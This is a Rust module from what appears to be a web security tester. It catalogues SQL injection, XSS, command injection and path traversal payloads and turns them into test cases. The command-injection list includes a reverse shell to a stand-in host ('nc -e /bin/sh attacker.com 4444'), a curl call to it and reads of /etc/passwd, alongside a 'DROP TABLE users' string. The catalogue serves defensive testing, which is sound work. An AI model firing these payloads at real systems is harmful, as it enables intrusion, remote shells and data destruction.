//! Attack payload catalogue
//!
//! Each category contributes a fixed, ordered list of payloads bound to one
//! endpoint and query parameter. Ids are `<prefix>_NNN`, numbered per category.

use crate::models::{TestCase, TesterConfig};

/// Static description of one category's payload family
struct PayloadFamily {
    attack_type: &'static str,
    id_prefix: &'static str,
    endpoint: &'static str,
    parameter: &'static str,
    label: &'static str,
    payloads: &'static [&'static str],
}

const SQL_INJECTION: &[&str] = &[
    "' OR '1'='1",
    "' UNION SELECT NULL,NULL--",
    "'; DROP TABLE users--",
    "1' AND '1'='1",
    "admin' #",
    "1 OR 1=1--",
    "' OR 'a'='a",
    "1' UNION SELECT username,password FROM users--",
    "' AND SLEEP(5)--",
    "' OR 1=1 /*",
];

const XSS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "\"><script>alert('XSS')</script>",
    "<svg onload=alert('XSS')>",
    "javascript:alert('XSS')",
    "<iframe src=\"javascript:alert('XSS')\">",
    "<body onload=alert('XSS')>",
    "<input onfocus=alert('XSS') autofocus>",
    "<marquee onstart=alert('XSS')>",
    "<details open ontoggle=alert('XSS')>",
];

const COMMAND_INJECTION: &[&str] = &[
    "; ls -la",
    "| whoami",
    "&& cat /etc/passwd",
    "` id `",
    "$(whoami)",
    "; nc -e /bin/sh attacker.com 4444",
    "| ncat attacker.com 4444",
    "&& curl http://attacker.com",
];

const PATH_TRAVERSAL: &[&str] = &[
    "../../../etc/passwd",
    "../../windows/system32",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "....//....//....//etc/passwd",
    "/etc/passwd%00.jpg",
    "..%252F..%252F..%252Fetc%252Fpasswd",
    "/var/www/html/../../etc/passwd",
    "C:\\windows\\system32\\",
];

const FAMILIES: &[PayloadFamily] = &[
    PayloadFamily {
        attack_type: "sql_injection",
        id_prefix: "sql",
        endpoint: "/api/data",
        parameter: "id",
        label: "SQL Injection",
        payloads: SQL_INJECTION,
    },
    PayloadFamily {
        attack_type: "xss",
        id_prefix: "xss",
        endpoint: "/api/data",
        parameter: "message",
        label: "XSS",
        payloads: XSS,
    },
    PayloadFamily {
        attack_type: "command_injection",
        id_prefix: "cmd",
        endpoint: "/api/data",
        parameter: "cmd",
        label: "Command Injection",
        payloads: COMMAND_INJECTION,
    },
    PayloadFamily {
        attack_type: "path_traversal",
        id_prefix: "path",
        endpoint: "/download",
        parameter: "file",
        label: "Path Traversal",
        payloads: PATH_TRAVERSAL,
    },
];

/// Returns every test case in catalogue order
pub fn all_cases() -> Vec<TestCase> {
    FAMILIES
        .iter()
        .flat_map(|family| {
            family.payloads.iter().enumerate().map(move |(idx, payload)| {
                let n = idx + 1;
                TestCase {
                    id: format!("{}_{n:03}", family.id_prefix),
                    attack_type: family.attack_type.to_string(),
                    payload: (*payload).to_string(),
                    endpoint: family.endpoint.to_string(),
                    method: "GET".to_string(),
                    parameter: family.parameter.to_string(),
                    description: format!("{} attempt {n}", family.label),
                }
            })
        })
        .collect()
}

/// Returns the test cases of a single attack category
pub fn cases_by_type(attack_type: &str) -> Vec<TestCase> {
    all_cases()
        .into_iter()
        .filter(|c| c.attack_type == attack_type)
        .collect()
}

/// Selects the test cases for a run.
///
/// A case is kept when its category is configured, its endpoint is in the
/// configured endpoint list, and, if `only` is non-empty, its category is
/// listed there.
pub fn build(config: &TesterConfig, only: &[String]) -> Vec<TestCase> {
    all_cases()
        .into_iter()
        .filter(|c| config.attack_types.contains(&c.attack_type))
        .filter(|c| config.endpoints.contains(&c.endpoint))
        .filter(|c| only.is_empty() || only.contains(&c.attack_type))
        .collect()
}
